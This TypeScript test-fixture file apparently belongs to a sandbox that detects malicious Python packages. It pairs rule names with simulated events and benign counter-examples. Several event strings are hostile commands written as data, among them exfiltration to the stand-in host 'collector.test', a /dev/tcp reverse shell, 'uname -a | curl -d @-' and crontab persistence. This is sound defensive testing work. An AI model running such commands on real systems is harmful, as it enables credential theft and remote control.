import type { TaskName } from '../../src/wire/job.ts'
import type { Event, RawData } from '../../src/wire/raw-data.ts'
import { event, fileChange, withEvents, withTask } from './raw-data.ts'
import { base, installing, type RuleCounterExample, type RuleExample } from './rule-cases-files.ts'

const at = '{site}/sample/__init__.py:3'
const doing = (task: TaskName, ...events: Event[]) => withEvents(base, task, ...events)
/** Under a clock 30 days ahead only. */
const later = (rawData: RawData, ...events: Event[]) =>
  withTask(rawData, 'clocks', { shifts: [{ days: 30, modules: [], tests: [], events }] })
const using = (rawData: RawData, name: string): RawData => {
  const { stable, volatile } = rawData.intake
  const run = [
    { name, version: '1.0', filename: `${name.replaceAll('-', '_')}-1.0.tar.gz`, sha256: '0'.repeat(64) },
  ]
  return { ...rawData, intake: { volatile, stable: { ...stable, packages: { ...stable.packages, run } } } }
}
const autoloading = (rawData: RawData) =>
  withTask(rawData, 'static', {
    findings: [{ rule: 'entry-point-autoload', file: 'sample-1.0.dist-info/entry_points.txt' }],
  })
const hooked = installing(base, '{site}/sample_init.pth')

const read = event('bait-read', 'ssh-key', { at })
const post = event('request', 'POST https://collector.test/in', { at })
const connect = event('connect', 'tcp 192.0.2.7:443', { by: 'import' })
const asked = event('name', 'A collector.test')
const run = (what: string, change: Partial<Event> = {}) => event('exec', what, { at, ...change })
const code = event('code', 'ab'.repeat(32), { at })
const curl = run('curl -s http://collector.test/x')
const left = event('left-running', '{scripts}/python -c "import sample.loop"')

export const eventExamples: RuleExample[] = [
  [
    'bait-left',
    'a key in a request',
    doing('import', event('bait-left', 'ssh-key base64 in POST https://collector.test/in')),
    'import',
  ],
  [
    'bait-left',
    'in labels of a name',
    doing('build', event('bait-left', 'netrc hex in A x.collector.test')),
    'build',
  ],
  [
    'bait-left',
    'words without a host',
    doing('import', event('bait-left', 'netrc plain in something')),
    'import',
  ],
  [
    'bait-left',
    'a test is no excuse',
    doing('unittest', event('bait-left', 'forge-token-env plain in POST https://collector.test/in')),
    'unittest',
  ],
  [
    'bait-left',
    'a service whose name only ends alike',
    doing(
      'unittest',
      event('bait-left', 'forge-token-env plain in GET https://api.github.com.collector.test/'),
    ),
    'unittest',
  ],
  [
    'bait-left',
    'its own service, but at import',
    doing('import', event('bait-left', 'forge-token-env plain in GET https://api.github.com/user')),
    'import',
  ],
  [
    'bait-left',
    'its own service, in a test',
    doing('unittest', event('bait-left', 'forge-token-env plain in GET https://api.github.com/user')),
    'unittest',
    'observed',
  ],
  ['secret-and-network', 'a key and a request', doing('import', read, post), 'import'],
  ['secret-and-network', 'a key and a name', doing('install', read, asked), 'install'],
  [
    'secret-and-network',
    'a key and an address of IPv6',
    doing('build', read, event('connect', 'udp [2001:db8::1]:53')),
    'build',
  ],
  ['secret-and-network', 'in a console script', doing('scripts', read, connect), 'scripts'],
  ['secret-and-network', 'in tests', doing('unittest', read, post), 'unittest', 'observed'],
  [
    'secret-and-network',
    'in tests, by a plugin that loads itself',
    autoloading(doing('unittest', read, post)),
    'unittest',
  ],
  [
    'secret-and-network',
    'more than netrc',
    using(doing('import', event('bait-read', 'netrc', { at }), read, post), 'requests'),
    'import',
  ],
  ['secret-and-network', 'under another date', later(base, read, post), 'clocks'],
  ['secret-read', 'a key', doing('import', read), 'import'],
  [
    'secret-read',
    'netrc by requests',
    using(doing('import', event('bait-read', 'netrc', { at })), 'requests'),
    'import',
  ],
  ['tamper', 'its channel', doing('import', event('tamper', 'audit-channel', { at })), 'import'],
  ['tamper', 'even in tests', doing('unittest', event('tamper', 'kill agent')), 'unittest'],
  [
    'tamper',
    'a signal to a stranger',
    doing('import', event('kill', 'SIGTERM other', { by: 'import' })),
    'import',
  ],
  ['tamper', 'a signal in a test', doing('unittest', event('kill', 'SIGTERM other')), 'unittest', 'observed'],
  ['time-gate', 'another host', later(base, post), 'clocks'],
  ['time-gate', 'another program', later(base, curl), 'clocks'],
  ['time-gate', 'a secret', later(base, read), 'clocks'],
  [
    'time-gate',
    'in a test',
    later(base, event('connect', 'tcp 192.0.2.7:443', { at: '{tests}/test_a.py:4' })),
    'clocks',
    'observed',
  ],
  [
    'time-gate',
    'a start file',
    withTask(base, 'clocks', { changes: [fileChange('{home}/.bashrc')] }),
    'clocks',
  ],
  [
    'machine-check',
    'with another behaviour under another date',
    later(doing('import', event('identity-read', '/proc/cpuinfo', { at })), post),
    'import',
  ],
  [
    'machine-check',
    'alone',
    doing('import', event('identity-read', '/sys/class/dmi/id/product_name', { at })),
    'import',
    'observed',
  ],
  [
    'machine-check',
    'before a secret',
    doing('import', event('identity-read', '/proc/cpuinfo', { at }), read),
    'import',
    'observed',
  ],
  [
    'download-and-run',
    'a download made executable',
    doing('import', post, event('make-executable', '{home}/.local/agent', { at })),
    'import',
  ],
  ['download-and-run', 'the marker', doing('build', event('marker-run', 'marker')), 'build'],
  [
    'download-and-run',
    'a script of a temporary folder',
    doing('import', connect, run("sh '{tmp}/x {random}.sh'")),
    'import',
  ],
  [
    'download-and-run',
    'a program in shared memory',
    doing('install', connect, run('/dev/shm/x --quiet')),
    'install',
  ],
  ['download-and-run', 'a program in memory', doing('import', post, event('memory-file', 'x')), 'import'],
  [
    'download-and-run',
    'a library of a temporary folder',
    doing('import', post, event('native', '{tmp}/x.so', { at })),
    'import',
  ],
  [
    'download-and-run',
    'a file an earlier task left',
    withEvents(
      withTask(base, 'import', { changes: [fileChange('/opt/x/agent')] }),
      'idle',
      connect,
      run('/opt/x/agent'),
    ),
    'idle',
  ],
  [
    'download-and-run',
    'in tests',
    doing('unittest', post, event('make-executable', '{home}/.local/agent', { at })),
    'unittest',
    'observed',
  ],
  ['decoded-and-acts', 'code and a request', doing('import', code, post), 'import'],
  ['decoded-and-acts', 'code and a program', doing('build', code, curl), 'build'],
  [
    'decoded-and-acts',
    'code and a program that meson runs',
    doing('build', code, event('exec', 'curl http://x.test', { by: 'meson setup {build}/source' })),
    'build',
  ],
  [
    'decoded-and-acts',
    'code and a child with code',
    doing('import', code, run("{scripts}/python -c 'import x'")),
    'import',
  ],
  [
    'decoded-and-acts',
    'marshalled code and a name',
    doing('start', event('marshal', 'cd'.repeat(32), { at }), asked),
    'start',
  ],
  [
    'decoded-and-acts',
    'code and a start file',
    withTask(doing('import', code), 'import', { changes: [fileChange('{home}/.zshrc')] }),
    'import',
  ],
  ['hidden-start', 'a program', withEvents(hooked, 'start', run('{scripts}/python -S -c pass')), 'start'],
  ['hidden-start', 'code', withEvents(hooked, 'start', code), 'start'],
  [
    'hidden-start',
    'a hook that an import left',
    withEvents(withTask(base, 'import', { changes: [fileChange('{site}/zz.pth')] }), 'idle', asked),
    'idle',
  ],
  [
    'memory-file',
    'and a program',
    doing('import', event('memory-file', 'cache'), run('/proc/self/fd/5')),
    'import',
  ],
  ['memory-file', 'alone', doing('import', event('memory-file', 'cache')), 'import', 'observed'],
  [
    'memory-file',
    'and a program in tests',
    doing('unittest', event('memory-file', 'cache'), curl),
    'unittest',
    'observed',
  ],
  ['decoded-code', 'code', doing('import', code), 'import'],
  [
    'native-code',
    'a library of the system',
    doing('import', event('native', 'libssl.so.3', { at })),
    'import',
  ],
  ['hook-set', 'a replaced function', doing('import', event('hook', 'builtins.open', { at })), 'import'],
  [
    'process-memory',
    'a debugger call',
    doing('import', event('process-memory', 'ptrace PTRACE_ATTACH')),
    'import',
  ],
  [
    'process-memory',
    'in tests too',
    doing('unittest', event('process-memory', '/proc/{pid}/mem', { at })),
    'unittest',
  ],
  [
    'process-memory',
    'a debugger in a test',
    doing('unittest', event('process-memory', 'ptrace PTRACE_ATTACH', { by: '/usr/bin/gdb -p 5' })),
    'unittest',
    'observed',
  ],
  ['privilege', 'another user', doing('import', event('privilege', 'setuid 0')), 'import'],
  ['privilege', 'a namespace', doing('build', event('privilege', 'unshare')), 'build'],
  ['privilege', 'sudo', doing('build', run("sh -c 'sudo apt-get install x'")), 'build'],
  ['privilege', 'in tests', doing('unittest', event('privilege', 'mount')), 'unittest', 'observed'],
  ['privilege', 'a named pipe', doing('import', event('privilege', 'mknodat')), 'import', 'observed'],
  ['left-behind', 'a process and a connection', doing('import', left, connect), 'import'],
  [
    'left-behind',
    'work while nothing is asked',
    doing('idle', event('left-running', '{scripts}/python -m x [busy]')),
    'idle',
  ],
  ['left-behind', 'in tests', doing('unittest', left, connect), 'unittest', 'observed'],
  ['left-running', 'a process', doing('import', left), 'import'],
  ['program-started', 'curl', doing('import', curl), 'import'],
  [
    'program-started',
    'one that is not there',
    doing('import', run('wget http://collector.test [not started]')),
    'import',
  ],
  [
    'program-started',
    'curl behind a harmless one',
    doing('import', run("sh -c 'uname -a | curl -d @- http://x.test'")),
    'import',
  ],
  ['program-started', 'a harmless name elsewhere', doing('import', run('{tmp}/uname')), 'import'],
  ['program-started', 'git that talks', doing('import', run('git push origin')), 'import'],
  ['program-started', 'behind env', doing('import', run('env A=1 curl x')), 'import'],
  ['program-started', 'within another command', doing('import', run("sh -c 'echo $(curl x)'")), 'import'],
  [
    'program-started',
    'words of multiprocessing with more behind',
    doing('import', run("{scripts}/python -c 'from multiprocessing.spawn import main; main(1); import x'")),
    'import',
  ],
  ['program-started', 'a small tool outside a build', doing('import', run('rm -rf {home}/x')), 'import'],
  ['remote-shell', 'a shell on a connection', doing('import', connect, run('/bin/sh -i')), 'import'],
  [
    'remote-shell',
    'by the shell itself',
    doing('import', connect, run("bash -c 'exec 5<>/dev/tcp/192.0.2.7/443'")),
    'import',
  ],
  ['remote-shell', 'in tests', doing('unittest', connect, run('/bin/sh -i')), 'unittest', 'observed'],
  ['persistence', 'a crontab by its program', doing('import', run('crontab -')), 'import'],
  [
    'persistence',
    'a unit that is switched on',
    doing('import', run('systemctl --user enable x.service')),
    'import',
  ],
  [
    'persistence',
    'hooks for all of git',
    doing('build', run('git config --global core.hooksPath {home}/x')),
    'build',
  ],
  [
    'persistence',
    'a start file written by a test',
    withTask(base, 'unittest', { changes: [fileChange('{home}/.bashrc')] }),
    'unittest',
    'observed',
  ],
  [
    'persistence',
    'a start file written by a test that reaches for the network',
    withEvents(withTask(base, 'unittest', { changes: [fileChange('{home}/.bashrc')] }), 'unittest', connect),
    'unittest',
  ],
  [
    'persistence',
    'a start file written by a plugin that loads itself',
    autoloading(withTask(base, 'unittest', { changes: [fileChange('{home}/.bashrc')] })),
    'unittest',
  ],
  [
    'persistence',
    'an interpreter start',
    withTask(base, 'start', { changes: [fileChange('{home}/.profile', { kind: 'changed' })] }),
    'start',
  ],
  [
    'foreign-file-changed',
    'a document of the user',
    withTask(base, 'import', {
      changes: [fileChange('{home}/Documents/plan.md', { kind: 'deleted', type: 'other' })],
    }),
    'import',
  ],
  [
    'foreign-file-changed',
    'a module of others at the uninstallation',
    withTask(base, 'uninstall', {
      changes: [fileChange('{site}/other/api.py', { kind: 'deleted', type: 'other' })],
    }),
    'uninstall',
  ],
  ['network-use', 'a name', doing('import', asked), 'import'],
  ['network-use', 'in tests', doing('unittest', connect), 'unittest'],
  [
    'network-use',
    'user information that looks like loopback',
    doing('import', event('request', 'GET http://127.0.0.1:80@collector.test/')),
    'import',
  ],
  [
    'network-use',
    'a host whose name begins like loopback',
    doing('import', event('request', 'GET http://127.0.0.1.collector.test/')),
    'import',
  ],
  ['listens', 'on all addresses', doing('import', event('listen', 'tcp 0.0.0.0:8000')), 'import'],
  [
    'static-finding',
    'a rule',
    withTask(base, 'static', { findings: [{ rule: 'exec-base64', file: 'setup.py', line: 3 }] }),
    'static',
  ],
  [
    'clock-dependent',
    'a test',
    withTask(base, 'clocks', { shifts: [{ days: 3_650, modules: [], tests: ['t::a'], events: [] }] }),
    'clocks',
  ],
  ['changes-cut', 'events left out', withTask(base, 'import', { eventsOmitted: 1 }), 'import'],
  [
    'left-installed',
    'a module',
    withTask(base, 'uninstall', { left: ['{site}/sample/__init__.py'] }),
    'uninstall',
  ],
  [
    'fatal-signal',
    'a crash of a console script',
    withTask(base, 'scripts', { scripts: [{ name: 'sample', outcome: 'signal', signal: 'SIGSEGV' }] }),
    'scripts',
  ],
  [
    'resource-limit',
    'a console script that never ends',
    withTask(base, 'scripts', { scripts: [{ name: 'sample', outcome: 'timeout' }] }),
    'scripts',
  ],
]

export const eventCounterExamples: RuleCounterExample[] = [
  [
    'foreign-file-changed',
    'the history of a shell',
    withTask(base, 'import', { changes: [fileChange('{home}/.bash_history', { kind: 'changed' })] }),
  ],
  [
    'download-and-run',
    'a linker',
    doing('import', connect, event('make-executable', '{tmp}/x', { by: '/usr/bin/ld -o x' })),
  ],
  [
    'bait-left',
    'to loopback',
    doing('import', event('bait-left', 'netrc plain in POST http://127.0.0.1:8000/x')),
  ],
  ['bait-left', 'only read', doing('import', read)],
  ['secret-and-network', 'a key alone', doing('import', read)],
  ['secret-and-network', 'network alone', doing('import', post, connect)],
  ['secret-and-network', 'in different tasks', withEvents(doing('import', read), 'scripts', post)],
  [
    'secret-and-network',
    'the machine itself',
    doing(
      'import',
      read,
      event('connect', 'tcp 127.0.0.1:{port}'),
      event('connect', 'tcp [::1]:80'),
      event('connect', 'unix /run/user/1000/bus'),
      event('name', 'localhost'),
      event('name', 'A workstation'),
    ),
  ],
  [
    'secret-and-network',
    'netrc by requests',
    using(doing('import', event('bait-read', 'netrc', { at }), post), 'requests'),
  ],
  [
    'secret-and-network',
    'npm with its own token',
    doing('build', event('bait-read', 'npm-token', { by: '/usr/bin/npm install' }), connect),
  ],
  ['secret-read', 'nothing', doing('import', post)],
  ['tamper', 'its own child', doing('import', run('sleep 5'))],
  [
    'time-gate',
    'the same host on another path',
    later(doing('import', event('request', 'GET https://collector.test/')), post),
  ],
  ['time-gate', 'the same program with other arguments', later(doing('scripts', run('curl x')), curl)],
  [
    'time-gate',
    'compilers and loopback',
    later(base, run('gcc -v'), event('connect', 'tcp 127.0.0.1:{port}'), code),
  ],
  [
    'time-gate',
    'a test that ends otherwise',
    withTask(base, 'clocks', { shifts: [{ days: 30, modules: [], tests: ['a'], events: [] }] }),
  ],
  [
    'machine-check',
    'flags of the processor',
    doing('import', event('identity-read', '/proc/cpuinfo', { at })),
  ],
  [
    'machine-check',
    'in tests',
    doing('unittest', event('identity-read', '/sys/class/dmi/id/product_name', { at })),
  ],
  ['download-and-run', 'a download alone', doing('import', post, connect, asked)],
  [
    'download-and-run',
    'a new program alone',
    doing('import', event('make-executable', '{home}/.local/agent', { at })),
  ],
  [
    'download-and-run',
    'a build that fetches and links',
    doing(
      'build',
      event('connect', 'tcp 192.0.2.7:443', { by: '/usr/bin/git clone' }),
      event('make-executable', '{build}/source/build/temp/x.so', { by: '/usr/bin/ld -o x' }),
      event('make-executable', '{tmp}/x', { by: '/usr/bin/x86_64-linux-gnu-ld -o x' }),
      run('./conftest'),
      run('{build}/source/configure'),
    ),
  ],
  [
    'download-and-run',
    'its own scripts at installation',
    doing(
      'install',
      connect,
      event('make-executable', '{scripts}/sample', { by: 'pip' }),
      event('make-executable', '{site}/sample/x.sh', { by: 'pip' }),
    ),
  ],
  [
    'download-and-run',
    'installed programs and its own',
    installing(
      doing(
        'import',
        connect,
        run('{scripts}/python -m sample'),
        run('/usr/bin/git --version'),
        run('{site}/sample/tool'),
      ),
      '{site}/sample/tool',
    ),
  ],
  ['download-and-run', 'memory of a JIT', doing('import', connect, event('memory-file', 'orcjit'))],
  ['decoded-and-acts', 'code alone', doing('import', code)],
  ['decoded-and-acts', 'a program alone', doing('import', curl)],
  [
    'decoded-and-acts',
    'code and questions',
    doing(
      'import',
      code,
      run('uname -s'),
      run("sh -c 'ldconfig -p 2>/dev/null'"),
      run('git describe --tags'),
    ),
  ],
  [
    'decoded-and-acts',
    'code and a line of code that meson runs',
    doing(
      'build',
      code,
      run("{build-venv}/bin/python -c 'print(1)'"),
      event('exec', "{build-venv}/bin/python -c 'print(1)'", { by: 'meson setup {build}/source' }),
      run('gcc-ar -h'),
    ),
  ],
  [
    'decoded-and-acts',
    'code and a compiler',
    doing(
      'build',
      code,
      run('gcc -c x.c'),
      run('{build-venv}/bin/python setup.py egg_info'),
      run('cmake ..'),
    ),
  ],
  [
    'decoded-and-acts',
    'a version file that is executed',
    doing(
      'build',
      event('code', base.tasks.install?.stable.files[0]?.sha256 ?? '', { at: '{build}/source/setup.py:4' }),
      post,
    ),
  ],
  ['decoded-and-acts', 'in tests', doing('unittest', code, post, curl)],
  ['decoded-and-acts', 'in different tasks', withEvents(doing('import', code), 'scripts', post)],
  ['hidden-start', 'a hook that does nothing', hooked],
  ['hidden-start', 'a hook that asks for the kernel', withEvents(hooked, 'start', run('uname -r'))],
  ['hidden-start', 'network at a start without a hook', doing('start', connect)],
  ['hidden-start', 'a hook and network at import', withEvents(hooked, 'import', connect)],
  ['hidden-start', 'a hook and network when modules are imported again', withEvents(hooked, 'idle', connect)],
  [
    'secret-and-network',
    'netrc looked up for a request',
    doing('import', event('bait-read', 'netrc', { at }), post),
  ],
  [
    'decoded-and-acts',
    "pip's own hook around code of the build",
    doing(
      'build',
      code,
      run(
        '{build-venv}/bin/python /usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel {tmp}/{random}',
      ),
    ),
  ],
  ['memory-file', 'of libffi', doing('import', event('memory-file', 'libffi'), curl)],
  [
    'memory-file',
    'and a compiler',
    doing('import', event('memory-file', 'cache'), run('gcc -v')),
    'observed',
  ],
  ['decoded-code', 'in tests', doing('unittest', code)],
  [
    'native-code',
    'libc and its own',
    doing('import', event('native', 'libc.so.6', { at }), event('native', '{site}/sample/x.so', { at })),
  ],
  ['hook-set', 'in tests', doing('unittest', event('hook', 'sys.settrace', { at }))],
  [
    'process-memory',
    'a comparison of descriptors',
    doing('import', event('process-memory', 'kcmp')),
    'observed',
  ],
  ['privilege', 'key stores', doing('import', event('privilege', 'keyctl')), 'observed'],
  ['privilege', 'a program whose argument is sudo', doing('import', run('echo a b c d sudo'))],
  ['left-behind', 'a process alone', doing('import', left)],
  [
    'left-behind',
    'a helper of multiprocessing',
    doing(
      'import',
      connect,
      event(
        'left-running',
        "{scripts}/python -c 'from multiprocessing.resource_tracker import main;main({number})'",
      ),
    ),
  ],
  ['left-behind', 'a process at rest', doing('idle', left)],
  ['left-behind', 'in different tasks', withEvents(doing('import', left), 'scripts', connect)],
  ['left-running', 'in tests', doing('unittest', left)],
  [
    'left-running',
    'a helper of multiprocessing',
    doing(
      'import',
      event(
        'left-running',
        "python3.13 -E -c 'from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd={number})'",
      ),
    ),
  ],
  ['program-started', 'in tests', doing('unittest', curl)],
  [
    'program-started',
    'a helper of multiprocessing',
    doing(
      'import',
      run("{scripts}/python -c 'from multiprocessing.resource_tracker import main;main({number})'"),
    ),
  ],
  [
    'program-started',
    'tools that build or answer',
    doing(
      'import',
      run('gcc -print-file-name=libc.so'),
      run('/sbin/ldconfig -p'),
      run('git rev-parse HEAD'),
      run('java -version'),
      run('uname -p [not started]'),
    ),
  ],
  [
    'program-started',
    'a build',
    doing(
      'build',
      run("sh -c 'mkdir -p x && cp a b | sed s/a/b/'"),
      run('sh ./configure'),
      run('{build-venv}/bin/python -u setup.py bdist_wheel'),
      run('env CC=gcc make'),
      run('./conftest'),
    ),
  ],
  ['remote-shell', 'a shell with a command', doing('import', connect, run("sh -c 'echo x'"), run('sh x.sh'))],
  [
    'remote-shell',
    'a shell without network',
    doing('import', run('/bin/sh -i'), event('connect', 'tcp 127.0.0.1:{port}')),
  ],
  [
    'persistence',
    'a crontab that is shown',
    doing('import', run('crontab -l'), run("sh -c 'echo crontab -'"), run('systemctl --user status x')),
  ],
  [
    'persistence',
    'hooks of a repository it made itself',
    withTask(base, 'import', {
      changes: [fileChange('{home}/work/.git/HEAD'), fileChange('{home}/work/.git/hooks/pre-commit')],
    }),
  ],
  [
    'persistence',
    'a host that SSH now knows',
    withTask(base, 'import', { changes: [fileChange('{home}/.ssh/known_hosts', { kind: 'changed' })] }),
  ],
  [
    'foreign-file-changed',
    'a file of the user it made itself',
    withTask(withTask(base, 'import', { changes: [fileChange('{home}/x/data')] }), 'scripts', {
      changes: [fileChange('{home}/x/data', { kind: 'deleted', type: 'other' })],
    }),
  ],
  [
    'foreign-file-changed',
    'what an uninstallation is for',
    withTask(base, 'uninstall', {
      changes: [
        fileChange('{site}/sample', { kind: 'deleted', type: 'other' }),
        fileChange('{site}/sample/__init__.py', { kind: 'deleted', type: 'other' }),
      ],
    }),
  ],
  [
    'changes-outside',
    'what an uninstallation is for',
    withTask(base, 'uninstall', {
      changes: [fileChange('{site}/sample/__init__.py', { kind: 'deleted', type: 'other' })],
    }),
  ],
  [
    'foreign-file-changed',
    'in a test',
    withTask(base, 'unittest', {
      changes: [fileChange('{home}/.netrc', { kind: 'deleted', type: 'other' })],
    }),
    'observed',
  ],
  [
    'network-use',
    'loopback',
    doing(
      'import',
      event('connect', 'tcp 127.8.9.1:80'),
      event('request', 'GET http://localhost:1/'),
      event('connect', 'udp [::ffff:127.0.0.1]:53'),
    ),
  ],
  [
    'listens',
    'on loopback, and in a test',
    withEvents(
      doing('unittest', event('listen', 'tcp 0.0.0.0:80')),
      'import',
      event('listen', 'tcp 127.0.0.1:{port}'),
      event('listen', 'unix {tmp}/x'),
    ),
  ],
  [
    'static-finding',
    'checks that fail',
    withTask(base, 'static', { grades: { 'metadata-description': 'it has none' } }),
  ],
  ['clock-dependent', 'nothing differs', later(base)],
  ['left-installed', 'nothing', base],
]
